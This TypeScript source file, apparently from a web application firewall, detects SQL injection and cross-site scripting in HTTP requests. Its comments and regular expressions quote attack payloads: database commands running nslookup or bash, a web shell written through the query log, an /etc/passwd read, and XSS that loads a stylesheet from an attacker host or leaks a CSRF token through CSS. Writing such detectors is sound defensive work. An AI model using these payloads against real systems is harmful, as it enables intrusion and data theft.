/**
 * The attack detector (SPEC §7): which attack classes a request's inputs carry. It reads every place a
 * client can put a value — the path and each of its segments, the query's names and values, the
 * body's values (JSON keys and strings, form fields, multipart parts, XML text and attributes), every
 * header but the few a browser or the transport sets, cookie names and values — each decoded as an
 * application would (src/insight/decode.ts) and lower-cased. SQL and shell injection are judged on
 * tokens, the value lexed in the language it attacks (src/insight/sql.ts, src/insight/shell.ts); the
 * other classes on structure, never on a keyword alone; SSRF and open redirects also on context (the
 * parameter's name, the request's own host). Precision and recall are measured on public corpora
 * (docs/detection.md). Runs in the writer's batch, never on the request path; all patterns are
 * compiled here once and are linear or bounded (no nested unbounded quantifiers).
 */
import { completeCutJson, cutLiteral, parseJson, TOO_DEEP } from '../capture/json.ts'
import { DECODE_PATTERNS, DECODE_PIECE, decodeLongValue, decodeValue, hidesMadeMarkup, jsonStrings, lastDecode, lineList, MAX_VALUES, multipartParts, occurrences, percentDecode, VT_FF, xmlTexts } from './decode.ts'
import { ByteScanner, HAS_BLANK, HAS_BYTE, HAS_PAIR } from './byte-scan.ts'
import { ipv6Words } from '../net/address.ts'
import { arithmeticComparison, DOUBLED_KEYWORD, mysqlNames, SQL_ONLY_FUNCTIONS, SQL_PATTERNS, sqlInjection, sqlProbeAlone, sqlProgram, sqlStatement, statementBreaksOut, statementProbes } from './sql.ts'
import { constantTemplate } from './template-expression.ts'
import { makoCommentBlock, TEMPLATE_PAGE_PATTERNS, templatePage, type TemplatePage } from './template-page.ts'
import { inertPageMarkup, PAGE_MARKUP_PATTERNS, TEMPLATE_BINDING } from './page-markup.ts'
import { BUILD_FILE_PATTERNS, dockerfile, makefile } from './build-files.ts'
import { withoutRefusedRazorBlocks } from './razor-block.ts'
import { POWERSHELL_ATTACK, POWERSHELL_PATTERNS, PS_INDEX, PS_LITERAL_COLLECTION, powershellProgram } from './powershell.ts'
import { bareCommand, braceProgram, CASE_CLOSED, commandLine, commentedCommand, isNameChar, loopCommandLine, dotJoinedCommands, someCapture, expandGlobs, fold, PROGRAM_ATTACK, programHeadInjection, protocolCommand, SHELL_PATTERNS, shellInjection, shellProgram } from './shell.ts'
import { memoize } from '../memo.ts'
import { unionOf } from '../match/union.ts'
import { ATTACK_TYPES } from '../capture/record.ts'
import { judgeClock, overdue } from './clock.ts'

export type AttackType = (typeof ATTACK_TYPES)[number]

export interface AttackInputs {
  /** the raw path, without the query */
  readonly path: string
  /** the raw query, without "?" */
  readonly query: string
  readonly headers: Readonly<Record<string, string | string[] | undefined>>
  /** the body's first bytes (up to `insight.maxInspectBytes`), or null */
  readonly body: Buffer | null
}

/**
 * Where an attack type was found in a request: `path`, `query:<name>` (`query`: a parameter's name),
 * `body:<field>` (a JSON body's path, `$.user.name`; `body`: the body as a whole), `header:<name>`, `cookie:<name>`; and the value there,
 * decoded, as the detector judged it (up to EXCERPT_MAX characters: the caller masks and cuts it).
 */
export interface AttackMatch {
  readonly type: AttackType
  readonly where: string
  readonly value: string
}

/** what a match carries of the value it was found in, before the caller's masking */
const EXCERPT_MAX = 200

/**
 * The path (`$.user.name`, `$.items[2].q`, `$['a b']`) of the first string under `key` (lower-case)
 * whose decoded text begins with `value` (a match's value, cut); undefined when none is found within
 * a bounded walk (nodes and depth) or the path grows long.
 */
function jsonPath(doc: object, key: string, value: string): string | undefined {
  let budget = 20_000
  const walk = (node: unknown, name: string, path: string, depth: number): string | undefined => {
    if (--budget < 0 || depth > 64 || path.length > 120) return undefined
    if (typeof node === 'string') return name.toLowerCase() === key && (node.startsWith(value) || decodeValue(node).startsWith(value)) ? path : undefined
    if (node === null || typeof node !== 'object') return undefined
    if (Array.isArray(node)) {
      for (let i = 0; i < node.length; i++) {
        const found = walk(node[i], name, `${path}[${i}]`, depth + 1)
        if (found !== undefined) return found
      }
      return undefined
    }
    for (const [k, v] of Object.entries(node)) {
      const found = walk(v, k, /^[A-Za-z_$][\w$]*$/.test(k) ? `${path}.${k}` : `${path}[${JSON.stringify(k)}]`, depth + 1)
      if (found !== undefined) return found
    }
    return undefined
  }
  return walk(doc, '', '$', 0)
}

// ---- signatures, per class, on decoded lower-case text --------------------------------------------

/** (forty-second round) a line of a program assigning the call of a function only SQL has, its arguments only names (see `qv` in `#value`) */
const OWN_SQL_NAME = String.raw`(?!(?:null|true|false|user|version|database|schema|current_\w+|session_user|system_user|utc_\w+|localtime\w*|sysdate|rownum|sql_mode)\b)[a-z][\w.]{2,60}`
const OWN_SQL_CALL = new RegExp(String.raw`(?<=(?:^[ \t\n]{0,40}|[^,'"(\s][ \t]{0,40}(?:\n[ \t]{0,40}){1,8})[a-z_][\w.[\]]{0,60}[ \t]{0,4}=[ \t]{0,4})(${SQL_ONLY_FUNCTIONS.join('|')})(?=[ \t]{0,4}\((?:[ \t]{0,4}${OWN_SQL_NAME}[ \t]{0,4},){0,4}[ \t]{0,4}${OWN_SQL_NAME}[ \t]{0,4}\))`, 'g')
const OWN_SQL_CALL_GATE = new RegExp(String.raw`(?:${SQL_ONLY_FUNCTIONS.join('|')})[ \t]{0,4}\([ \t]{0,4}[a-z]`)
/** SQL injection beyond the token judge (src/insight/sql.ts): names only an attack writes. */
const SQLI = [
  // (fifty-sixth round) a statement spelt with no blank, MySQL's tokenizer splitting it at a sign and a number's end (`SELECT-1e1FROM`,
  // `SELECT~1.FROM`, `SELECT-id-1.FROM`), a closing parenthesis or quote (`SELECT-(1)FROM`, `SELECT-'1'FROM`) or at `\N` (`SELECT\NFROM`,
  // `SELECT-\NFROM`), the table after a quote, a parenthesis, a comment or a blank: a filter that looks for `select ` passes it (review:
  // not code's `e.select!=null&&a1.from(e.select)`, `select2.from`, nor a style's `select~.from`: a sign right after `select`, then only
  // a number's, a name's or a parenthesis' characters; not a BEM class's `.select-2.from--open`: no `--` after `from`)
  /\bselect(?:[-~+!@(][\w.~+\-\\()']{0,40}?(?:\d\.?|\\n|\)|')|\\n)from(?:[`(\s/#{]|$)/,
  // (fifty-sixth round) PostgreSQL's COPY to or from a program that probes or runs a shell (`copy (select '') to program 'nslookup
  // x.oast…'`, `… PROGRAM U&'bash -c …'`: the server runs it, breakout or not; reviews: not a backup's `TO PROGRAM 'gzip > /backups/…'`,
  // nor a load's `FROM PROGRAM 'curl -sL https://…/zip.csv'`, nor psql's client-side `\copy`), Oracle's
  // UTL_FILE opening a web server's script to write (`UTL_FILE.FOPEN('DIR','shell.php','w')`; a DBA's `.sh` or `.pl`, a log, are none)
  /(?<!\\)\bcopy\b[\s\S]{0,300}?\b(?:to|from)\s*program\s*(?:u&|e)?['"$]{1,2}\s*(?:nslookup|dig|host|ping|nc|ncat|bash|sh|python\d?|perl|ruby|php|powershell|cmd|id|whoami|touch|rm)\b|\butl_file\s*\.\s*fopen\s*\([^)]{0,200}?['"][^'"\n]{1,100}\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi)['"]\s*,\s*['"][wa]/,
  // (fifty-first round's review) a whole value of a number, `or` and a number that is true (`0 OR 1`, `-1 OR true`, `1 or 1`): spliced
  // into a numeric comparison, every row (`WHERE id = 0 OR 1`); prose's `1 or 2` names two choices and is left (the second another number
  // than the first, the first neither 0 nor negative)
  /^\s{0,4}(?:(?:-\s{0,4}\d{1,10}|0)\s{1,4}or\s{1,4}(?:\d{1,10}|true)|(\d{1,10})\s{1,4}or\s{1,4}(?:\1|true))\s{0,4}$/,
  // (forty-eighth round) a logic operator between two numbers with empty or short comments for blanks (`1/**/AND/**/1`): no one writes
  // a condition so but to slip it past a filter that looks for blanks
  /(?<![\w.])\d{1,12}\/\*[^*\n]{0,20}\*\/(?:and|or|xor|\|\||&&)\/\*[^*\n]{0,20}\*\/\d{1,12}(?![\w.])/,
  /\binformation_schema\s*\.\s*(?:tables|columns|schemata|character_sets|collations|routines|user_privileges|schema_privileges|processlist|views|triggers|statistics|key_column_usage|table_constraints)\b|\bsys(?:objects|columns|\.tables|\.databases|\.user\$|ibm\.sys\w+|cat\.\w+)\b|(?<!['"])\bpg_(?:catalog\s*\.|shadow\b|user\b(?!['"]))|\bmysql\s*\.\s*user\b|@@(?:version|datadir|hostname|servername)\b|\bmaster\s*\.\.\s*\w/,
  /\binto\s+(?:out|dump)file\s+['"\u2018\u2019]/,
  // (fifty-third round) a statement's keyword cut in two by a comment (`SEL/**/ECT`, `UN/*x*/ION`): a probe of a filter that strips
  // comments before it compares words; no query and no text is written so
  /(?<![a-z])(?:s\/\*[^*\n]{0,20}\*\/elect|se\/\*[^*\n]{0,20}\*\/lect|sel\/\*[^*\n]{0,20}\*\/ect|sele\/\*[^*\n]{0,20}\*\/ct|selec\/\*[^*\n]{0,20}\*\/t|u\/\*[^*\n]{0,20}\*\/nion|un\/\*[^*\n]{0,20}\*\/ion|uni\/\*[^*\n]{0,20}\*\/on|unio\/\*[^*\n]{0,20}\*\/n|i\/\*[^*\n]{0,20}\*\/nsert|in\/\*[^*\n]{0,20}\*\/sert|ins\/\*[^*\n]{0,20}\*\/ert|inse\/\*[^*\n]{0,20}\*\/rt|inser\/\*[^*\n]{0,20}\*\/t|u\/\*[^*\n]{0,20}\*\/pdate|up\/\*[^*\n]{0,20}\*\/date|upd\/\*[^*\n]{0,20}\*\/ate|upda\/\*[^*\n]{0,20}\*\/te|updat\/\*[^*\n]{0,20}\*\/e|d\/\*[^*\n]{0,20}\*\/elete|de\/\*[^*\n]{0,20}\*\/lete|del\/\*[^*\n]{0,20}\*\/ete|dele\/\*[^*\n]{0,20}\*\/te|delet\/\*[^*\n]{0,20}\*\/e|s\/\*[^*\n]{0,20}\*\/leep|sl\/\*[^*\n]{0,20}\*\/eep|sle\/\*[^*\n]{0,20}\*\/ep|slee\/\*[^*\n]{0,20}\*\/p|b\/\*[^*\n]{0,20}\*\/enchmark|be\/\*[^*\n]{0,20}\*\/nchmark|ben\/\*[^*\n]{0,20}\*\/chmark|benc\/\*[^*\n]{0,20}\*\/hmark|bench\/\*[^*\n]{0,20}\*\/mark|benchm\/\*[^*\n]{0,20}\*\/ark|benchma\/\*[^*\n]{0,20}\*\/rk|benchmar\/\*[^*\n]{0,20}\*\/k|w\/\*[^*\n]{0,20}\*\/here|wh\/\*[^*\n]{0,20}\*\/ere|whe\/\*[^*\n]{0,20}\*\/re|wher\/\*[^*\n]{0,20}\*\/e|f\/\*[^*\n]{0,20}\*\/rom|fr\/\*[^*\n]{0,20}\*\/om|fro\/\*[^*\n]{0,20}\*\/m)(?![a-z])/,
  // (fifty-third round) a benchmark of a hundred thousand rounds or more right after a literal (`1 BENCHMARK(5000000,MD5(1))--`): a
  // delay probe; a DBA's own `SELECT BENCHMARK(…)` follows a keyword, and prose's `Node 20 benchmark (100000, 8 threads)`
  // names no function to run (review)
  /(?:\d|['")])\s{0,4}benchmark\(\s{0,4}\d{5,12}\s{0,4},\s{0,4}[a-z_][a-z0-9_]{1,19}\s{0,4}\(/,
  /\bwaitfor\s+(?:delay|time)\s+['"\u2018\u2019\u201c\u201d]/,
  // a delay after a quote (typographic ones too: cheat sheets' “ or pg_sleep(5) —) and a boolean or a separator
  /['"\u2018\u2019\u201c\u201d)]\s*(?:or|and|;|\|\||&&)\s*(?:pg_sleep|sleep|benchmark|dbms_lock\.sleep)\s*\(\s*\d/,
  // (thirtieth round: MySQL's own functions are not an object's methods, Ruby's `YAML.load_file(config_file)`)
  /(?<!\.\s{0,4})\b(?:extractvalue|updatexml|load_file)\s*\(|\b(?:utl_inaddr\.get_host_address|utl_http\.request|dbms_xmlgen|dbms_pipe\.receive_message|xp_cmdshell|sp_executesql|sp_oacreate|sp_addlogin|sp_password)\s*\(/,
  // (twenty-sixth round) a database server's own means an injection reaches for, breakout or not: a script written through the query
  // log (`SET GLOBAL general_log_file='/var/www/html/shell.php'`; a log file a DBA sets is none), a system file, a share or a
  // wrapper read (`LOAD DATA LOCAL INFILE '/etc/passwd'`, `'\\\\host\\x'`, `'phar://…'`; a CSV a DBA loads is none), `OPENROWSET(BULK …)`,
  // a request out (Oracle's `HTTPURITYPE(…)`, SQL Server's trace and audit readers on a share), the privileges tested
  // (`IS_SRVROLEMEMBER('sysadmin')`, `IS_MEMBER('db_owner')`), code run (Oracle's Java source or C library, `DBMS_JAVA.RUNJAVA`,
  // `DBMS_XMLGEN.GETXML`), Oracle's dictionary of users and privileges read (`FROM dba_users`, `FROM user_sys_privs`), SQL Server's
  // catalog of databases, and a number compared with a sub-query (`1=(select name from …)`, an error-based probe)
  /\bset\s+global\s+(?:general_log|slow_query_log)_file\s*=\s*['"][^'"\n]{0,200}\.(?:php\d?|phtml|phar|jsp|jspx|asp|aspx|cgi|pl)['"]|\bload\s+data\s+(?:local\s+|low_priority\s+|concurrent\s+)?infile\s+['"](?:\\\\|\/\/|[a-z]{3,5}:\/\/|\/etc\/|\/proc\/|[a-z]:[/\\]windows)|\bfn_(?:xe_file_target_read_file|get_audit_file|trace_gettable)\s*\(|\bcreate\s+(?:or\s+replace\s+)?(?:and\s+(?:re)?solve\s+)?(?:and\s+compile\s+)?java\s+source\b|\bcreate\s+(?:or\s+replace\s+)?library\s+[\w.$]{1,60}\s+(?:as|is)\s+['"]|\blanguage\s+c\s+library\s+[\w.$]{1,60}\b|\bdbms_java\s*\.\s*runjava\s*\(/,
  /\bchar\s*\(\s*\d{2,3}\s*(?:,\s*\d{2,3}\s*){2,}\)|\bconcat(?:_ws)?\s*\(\s*(?:0x|char\s*\(|@@|user\s*\()|(?:\bchar\s*\(\s*\d{2,3}\s*\)\s*[+|]{1,2}\s*){2,}/,
]
/**
 * (review) the reading half of a database server's own means (`OPENROWSET(BULK …)`, `HTTPURITYPE(…)`, the privileges tested,
 * `DBMS_XMLGEN.GETXML`, the dictionary of users and privileges, SQL Server's catalog, a number compared with a sub-query): sqli
 * whatever the breakout, but not in a text of several lines of prose, a DBA's question quoting the query they ran
 * (`SELECT username FROM dba_users WHERE …` in a forum post; an injection there still counts by its breakout)
 */
const SERVER_READS = /\bopenrowset\s*\(\s*bulk\b|\bhttpuritype\s*\(|\bis_srvrolemember\s*\(|\bis_member\s*\(\s*['"]db_|\bdbms_xmlgen\s*\.\s*getxml\s*\(|\bfrom\s+(?:sys\s*\.\s*)?(?:all_users|dba_users|all_tab_columns|dba_tab_columns|user_sys_privs|role_sys_privs|dba_sys_privs|session_roles|session_privs|dba_role_privs|user_role_privs)\b|\bmaster\s*\.\s*dbo\s*\.\s*sys(?:databases|logins|users|objects|columns)\b|\b\d{1,10}\s*=\s*\(\s*select\b/
// (not MySQL's `/*!…*/`, whose content is SQL: `/*!union*/+/*!select*/`)
const SQL_COMMENT = /\/\*(?!!)[^*]{0,200}\*\//g
/**
 * Prose's quotation whose dashes read as SQL's comment, which breaks out of nothing: a quotation opening on a dash in typographic
 * quotes (`‘--as far out to sea as you can--’`), and (twenty-fourth round) dialogue in straight quotes whose dashes glue to words
 * (`"Does it"--he smiled--"I mean…`): two quotes, a dash between letters or quotes, and nothing else SQL needs (no operator,
 * parenthesis, separator, comment or keyword).
 */
function dashedQuotation(v: string): boolean {
  return (QUOTED_DASH.test(v) && v.includes('\u2019') && !v.includes("'")) || (DOUBLE_QUOTED_DASH.test(v) && v.includes('\u201d') && !v.includes('"')) || (v.length <= 400 && DIALOGUE_DASH.test(v) && v.indexOf('"') !== v.lastIndexOf('"') && !SQL_SIGN.test(v))
}
const DIALOGUE_DASH = /[a-z"]--[a-z"]/
const SQL_SIGN = /[=();#*@<>|&+]|\/\*|\b(?:union|select|sleep|benchmark|waitfor|having|order\s+by|group\s+by|insert|update|delete|drop|exec|like|xor)\b|\b(?:or|and|not)\s+['"\d]/
const VERSIONED_KEYWORD = /\/\*!\d{0,6}\s{0,4}(?:union|select|from|where|order|group|insert|update|delete|drop|sleep|benchmark|concat|and|or|information_schema)\b/

/** The event handlers an attribute break-out uses (`" onfocus=`), without the "on". */
const HANDLERS = 'mouse\\w{2,8}|load|error|focus\\w{0,3}|blur|click|dblclick|key\\w{2,5}|toggle|start|begin|end|animation\\w{3,10}|transition\\w{3,6}|pointer\\w{2,9}|loadstart|loadeddata|loadedmetadata|progress|ratechange|timeupdate|durationchange|volumechange|ended|seeked|seeking|waiting|canplay(?:through)?|emptied|stalled|suspend|pause|cuechange|selectionchange|visibilitychange|fullscreenchange|fullscreenerror|slotchange|securitypolicyviolation|input|change|submit|wheel|scroll|drag\\w{0,5}|drop|copy|paste|resize|show|play\\w{0,4}|auxclick|contextmenu|message|hashchange|pageshow|beforeunload|unload|readystatechange|select|search|invalid|reset|cut|abort|pagehide|popstate|storage|afterprint|beforeprint|hashchange|formdata|beforeinput|beforetoggle|content\\w{0,10}'
/** (forty-second round's third review) an event handler inside a tag, read on the value as sent */
// (a tag as sent runs to its first `>`: a `<` inside it is an attribute's, `<img src=x &gt; <!-- &gt; onerror=…-->`)
// (forty-ninth round, cost) the handlers found first, then the tag each stands in: the pattern's scan of 400 characters after every `<`
// took 173 ms for one 16 KiB body of `&lt;` then 8,000 `<a`; tagHandler reads the value once
const TAG_HANDLER = new RegExp(String.raw`[\s/"'\`;]on(?:${HANDLERS})\s*=`, 'g')
/** whether an event handler stands inside a tag opened at most 420 characters before it (`<[a-z]`, then no `>` up to the handler) */
function tagHandler(v: string): boolean {
  // (review: one pass forward beside the handlers found, keeping the last tag's opening and the last `>` — a look back from each handler
  // cost 422 characters apiece where no tag opened, 36 ms for 16 KiB of `/onload=`)
  TAG_HANDLER.lastIndex = 0
  let i = 0
  let open = -1
  let close = -1
  for (let m = TAG_HANDLER.exec(v); m !== null; m = TAG_HANDLER.exec(v)) {
    const h = m.index
    for (; i < h; i++) {
      const c = v.charCodeAt(i)
      if (c === 62) close = i
      else if (c === 60) {
        const d = v.charCodeAt(i + 1)
        if (d >= 97 && d <= 122) open = i
      }
    }
    if (open > close && h - open <= 422) return true
  }
  return false
}

/**
 * (twelfth round) What a program's source makes its own. Script sinks called on their own, after a
 * statement or a string (`{ alert("Error:" + err) }`, `'), setTimeout(`) are its function bodies: only
 * markup and handlers count there. A handler in JSX braces that names a function or defines one
 * (`onSubmit={this.handleSubmit}`, `onClick={() => {…}}`) runs nothing: a browser reading it as HTML
 * evaluates a block that names or defines a function and calls none. Multi-line string literals (C#'s
 * `@"…"`, Python's triple quotes, a template literal) are the page a program writes.
 */
const XSS_SINK_ONLY = new Set<RegExp>()
/** Marks a pattern of XSS as a script sink's (not counted in a program's source), where it is written. */
function sinkOnly(re: RegExp): RegExp {
  XSS_SINK_ONLY.add(re)
  return re
}
/**
 * (fourteenth round) Script sinks reached another way: a script as a data: URL anywhere (`new EventSource('data:,alert(1)')`,
 * `data:application/x-javascript,…`), a sink's name spelt as a number in base 30 or 36 (`eval(1558153217..toString(36))(1)`,
 * `parseInt("prompt",36)`), a sink called with a number as another call's argument (`Promise.resolve(alert(3))`). Not in a program's source.
 * (review) A script data: URL's text must reach a sink (`data:text/javascript,alert(1)`): a module written inline is a
 * program's (`import 'data:text/javascript,export default 42'`, as Node's documentation shows); base64 counts unread.
 */
const XSS_SINK_WAYS = sinkOnly(/\bdata\s*:\s*(?:(?:application|text)\/(?:x-)?(?:javascript|ecmascript)\s*)?,\s*(?:alert|prompt|confirm|eval)\s*\(|\bdata\s*:\s*(?:application|text)\/(?:x-)?(?:javascript|ecmascript)\s*(?:;|,[^'"`\s]{0,80}?(?:\b(?:alert|prompt|confirm|eval|print)\s*\(|\bdocument\s*\.|\blocation\b))|\b(?:eval|settimeout|function)\s*\(\s*(?:0x[0-9a-f]{1,16}|\d{1,20}\.)\.?\s*tostring\s*\(\s*\d{1,2}\s*\)|\bparseint\s*\(\s*['"](?:alert|prompt|confirm|eval)['"]\s*,\s*36\s*\)|[(,[]\s*(?:alert|prompt|confirm)\s*\(\s*\d{1,4}\s*\)\s*[),\]]/)
/**
 * (fourteenth round) Markup: a tag whose blanks were written as `+` where nothing decodes them (`"><img+src=z+onerror=…`), DOM
 * clobbering (an element named for what a script reads: `<a id=defaultView name=alert>`, `<object id=cookie name=__proto__>`),
 * AngularJS directives handed a sink through `$event` (`ng-focus=$event.view.alert(1)`, `…|orderBy:'(y=alert)(1)'`).
 * (review) Not a form's or a page's ordinary names, quoted as markup people write quotes them (`<textarea name="prompt">`,
 * `<input name="confirm">`, `<div id="alert">`, `<input name="attributes">`; unquoted, `<form id=alert name=alert>`, they count), nor a scope's own method or a class after `$event` (`vm.confirm()`, `class="alert"`).
 */
const XSS_MARKUP_WAYS = /<[a-z]{1,10}\+[^<>\s]{0,200}?\+on[a-z]{3,30}=|<[a-z]{1,10}\b[^<>]{0,200}?\b(?:id|name)\s*=\s*(?:['"]?(?:__proto__|defaultview|currentscript|documentelement|ownerdocument|getelementbyid|queryselector|createelement|parentnode)\b|(?:alert|prompt|confirm|attributes)(?![\w-]))|\bng-[a-z]{2,20}\s*=\s*['"]?[^<>]{0,200}?\$event\b[^<>"]{0,200}?(?:(?<=\b(?:view|window|defaultview|top|self|parent)\s{0,4}\.\s{0,4})(?:alert|prompt|confirm|eval)\s*\(|=\s{0,4}(?:alert|prompt|confirm|eval)\s*\))/
/**
 * (fifty-second round) Django's `{% url 'helpdesk:home' %}` (a route's name, then its arguments as names or plain literals): the path on
 * the site the route is mounted at, as a template writes its own addresses
 */
const DJANGO_URL_TAG = String.raw`\{%-?\s{1,4}url\s{1,4}(?:"[\w:.-]{1,80}"|'[\w:.-]{1,80}')(?:\s{1,4}(?:[a-z_][\w.]{0,60}|\d{1,12}|"[\w.-]{0,60}"|'[\w.-]{0,60}')){0,6}\s{0,4}-?%\}`
/**
 * (thirty-eighth round) A `<meta>` whose only attributes refresh to a path on the same site after a delay, as a static site's page that
 * moved writes it (`<meta http-equiv="refresh" content="0; url=/contributing/">`): the browser stays on the site. The address is a path's
 * characters only: no reference (`&#x2f;`), blank (dropped from addresses), `\\` or second `/` can make it another host's, and a second
 * `content` after it would not be the one read. (Review: nor `//`, a `.` or `..` segment, or `%2e` anywhere in it, `/.//127.0.0.2/`,
 * which a browser resolves to a path a server may take for another host's. Fifty-second round: or Django's url tag, DJANGO_URL_TAG.)
 */
const SITE_REFRESH = String.raw`\s{1,4}http-equiv\s{0,4}=\s{0,4}(?:"refresh"|'refresh'|refresh)\s{1,4}content\s{0,4}=\s{0,4}(?:"\d{1,4}\s{0,4}[;,]\s{0,4}url\s{0,4}=\s{0,4}(?:\/(?![/\\])(?:(?!\/\/|\.\.?\/|%2e)[\w./#?=%~+-]){0,300}|${DJANGO_URL_TAG})"|'\d{1,4}\s{0,4}[;,]\s{0,4}url\s{0,4}=\s{0,4}(?:\/(?![/\\])(?:(?!\/\/|\.\.?\/|%2e)[\w./#?=%~+-]){0,300}|${DJANGO_URL_TAG})')\s{0,4}\/?>`
/** (fifty-sixth round) a tag's attributes, quoted values holding `>`, up to 800 characters or quoted values (LINKED_SHEET, the JSP actions; one way to read each character, so no backtracking between them) */
const TAG_BODY = String.raw`(?:[^<>"']|"[^"]{0,400}"|'[^']{0,400}'){0,800}?`
/** (fifty-sixth round) where an attribute's name starts after TAG_BODY: a blank, a slash or a quoted value's closing quote (not inside a value) */
const ATTR_START = String.raw`(?:[\s/]|(?<=["']))`
const LINKED_SHEET = new RegExp(String.raw`^[^<]{0,200}?(?:['"\x60]\s{0,8}\/?>|<\/(?:title|textarea|style|noscript|xmp|template|option|select)\s{0,4}>)\s{0,16}<link\b(?=${TAG_BODY}${ATTR_START}rel\s*=\s*['"]?[^'">]{0,200}?\bstylesheet\b)${TAG_BODY}${ATTR_START}href\s*=\s*['"]?[\x00-\x20]{0,8}(?!(?:https?:)?\/\/(?:fonts\.(?:googleapis\.com|bunny\.net)|use\.typekit\.net)\/)(?:[a-z][\w+.-]{0,20}:|[/\\]{2})`)
/** Cross-site scripting: markup or script that a browser would run. */
const XSS = [
  /<\/?script\b|<\/?scr\W{0,3}ipt\b|<\/?scr\s*script\s*ipt\b/,
  // a blank written out counts (<img\nsrc=x\nonerror=…>, for a string that is decoded before it is written)
  /<[^<>\s]{0,20}[^<>]{0,400}?(?:[\s/"'`;:]|\\[ntrf])on[a-z]{3,50}\s*=/,
  new RegExp(`<[^<>\\s]{0,20}[^<>]{0,400}?[\\s/"'\`;:]on(?:${HANDLERS})[^\\s=>]{1,40}=`),
  // (twenty-ninth round: not an e-mail's Office settings, `<xml><o:OfficeDocumentSettings>` in Outlook's conditional comment, as every
  // HTML e-mail template has it)
  // (thirtieth round: Internet Explorer's `<import>` by its behaviour's attributes, not an MSBuild project's `<Import Project="…" />`)
  // (thirty-fifth round: not a frame or an inline frame named bare, with nothing to load, `Expose <iframe> via <html[stylus-iframe]>`, a
  // translation's words, `Ensure <frame> and <iframe> elements …`, a rule's description)
  // (fifty-second round: nor XAML's Frame with only XAML's own attributes, `<Frame x:Name="ContentFrame"/>`, a Windows page's navigation host:
  // an HTML frame with no source loads nothing, and one with any other attribute is read)
  /<(?:iframe(?![ \t]{0,4}>)|frame(?![ \t]{0,4}>)(?!(?:\s{1,4}x:[a-z]{1,20}\s{0,4}=\s{0,4}"[^"<>]{0,100}"){1,4}\s{0,4}\/?>)|frameset|embed(?!(?:\s{1,4}(?:embedtype|format|id|alt|class)\s{0,4}=\s{0,4}"[^"<>]{0,200}"){1,8}\s{0,4}\/?>)|applet|svg|math|isindex|layer|ilayer|bgsound|xml(?![ \t]{0,4}>\s{0,40}<[owv]:)|xss|portal|import(?=[^<>]{0,200}?\b(?:namespace|implementation)\s*=)|handler|listener|event-source)\b(?![-.])|<object\b[^>]{0,200}?\btype\s*=\s*['"]?(?:text\/x-scriptlet|text\/html|application\/x-shockwave)|<base\b[^>]{0,200}?\bhref\s*=|<(?:[a-z][\w-]{0,20}:)?(?:set|animate)\b[^>]{0,200}?\battributename\s*=\s*['"`]?(?:href|xlink:href|innerhtml|on[a-z]+)|<link\b[^>]{0,200}?\brel\s*=\s*['"]?[^>]{0,40}?\bimport\b|<style\b[^>]{0,100}?\btype\s*=\s*['"]?text\/(?:javascript|ecmascript)/,
  // (thirty-eighth round: not a refresh to a path on the same site, SITE_REFRESH)
  new RegExp(String.raw`<meta\b(?!${SITE_REFRESH})[^>]{0,300}?(?:url\s*=\s*['"]?\s*(?:javascript|vbscript|data):|http-equiv\s*=\s*['"]?(?:refresh|link|set-cookie)\b)`),
  // (fifty-sixth round) a style sheet linked from another origin (`"><link rel="stylesheet" href="http://evil.example/x.css">`): its
  // selectors read the page's attributes out through their background URLs, as an imported one's do (`<style>@import url(//evil/x.css)`);
  // a scheme's or a protocol-relative URL, the attributes in any order, quoted values holding `>` or `<`, `href` not read inside another
  // attribute's value. Reviews: only after a broken-out attribute (`x"><link …>`) or element (`</title><link …>`) — a whole page, an
  // e-mail, a CMS's head snippet (`<link rel="stylesheet" href="https://cdn.jsdelivr.net/…">` as a setting) or a document's sentence that
  // links a CDN's sheet is the page's own, and a comment's text is told from none of them — and not a font service's sheet (Google
  // Fonts, Bunny Fonts, Adobe Fonts) as the link's first URL
  LINKED_SHEET,
  // (twenty-fifth round: a scheme's name then a dot is a host's, `href="http://livescript.net"`, `https://javascript.info`; forty-second
  // round: nor one a letter or a digit goes on from, a longer name's start, `values={constants.javaScriptSpecLanguages}` in MDX)
  /<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?\b(?:src|href|dynsrc|lowsrc|background|action|formaction|data|code|codebase|xlink:href|poster|values|to|from|by|folder|srcdoc)\s*=\s*(?:['"`]\s*)?[^'"`>\s]{0,20}?(?:(?:javascript|vbscript|livescript)(?!\.[a-z]|[a-z0-9_])|data\s*:\s*text\/html|&\{)|<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?=\s*['"]?&\{|<(?:link|iframe|object|embed|script|frame)\b[^>]{0,300}?\b(?:href|src|data)\s*=\s*['"]?\s*data\s*:/,
  // (thirty-fifth round: a button's `formaction` naming the site's own page, a relative path or a template's placeholder, `formaction="{{ save }}"`
  // in an OpenCart template, is a form's own target; another origin's, a scheme's, an entity's or an unquoted one is still read)
  /<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?\b(?:formaction(?!\s*=\s*(['"])(?:\{\{\s{0,4}[\w.]{1,60}\s{0,4}\}\}|\/(?![/\\])[^'"<>\s:\\]{0,200}|[\w.-]{1,60}(?:[/?#][^'"<>\s:\\]{0,200})?)\1)|srcdoc|datasrc|datafld|dataformatas)\s*=|<\?xml-stylesheet\b[^>]{0,200}?href\s*=\s*['"]?\s*(?:javascript|data):|<\?import\b(?=[^<>]{0,200}?\b(?:namespace|implementation)\s*=)/,
  // (forty-second round, from its third review) a style sheet reading a field's value out a character at a time: a selector on an input's
  // value (`input[name=csrf][value^=s3]`) whose rule loads a URL from another host (`{background:url(//host/leak?p=s3)}`) sends the
  // page's secret away with no script at all
  /<style\b[^>]{0,100}>[^<]{0,20000}?\[\s{0,4}value\s{0,4}[\^$*|~]?=[^\]\n]{0,200}\][^{}<]{0,200}\{[^{}<]{0,400}?url\s{0,4}\(\s{0,4}['"]?\s{0,4}(?:https?:)?\/\//,
  /\bstyle\s*=\s*['"`]?[^'"`>]{0,200}?(?:expression\s*\(|javascript\s*:|-moz-binding|\bbinding\s*:\s*url\s*\(|behavior\s*:|url\s*\(\s*['"]?\s*(?:javascript|vbscript):)|<style\b[^>]{0,100}>[^<]{0,20000}?(?:expression\s*\(|javascript\s*:|-moz-binding|behavior\s*:|@import(?!\s{0,4}(?:url\s{0,4}\(\s{0,4})?['"]?(?:\/(?!\/)|[@~.\w-])[\w@~.\/-]{0,200}\.(?:s?css|less|sass|styl)['"]?\s{0,4}\)?\s{0,4}[;\n])|alert\s*\()/,
  // (review: after `[`, `#` or `/`, not the no-op link, `/category/javascript:void(0)` a crawler built from `href="javascript:void(0)"`,
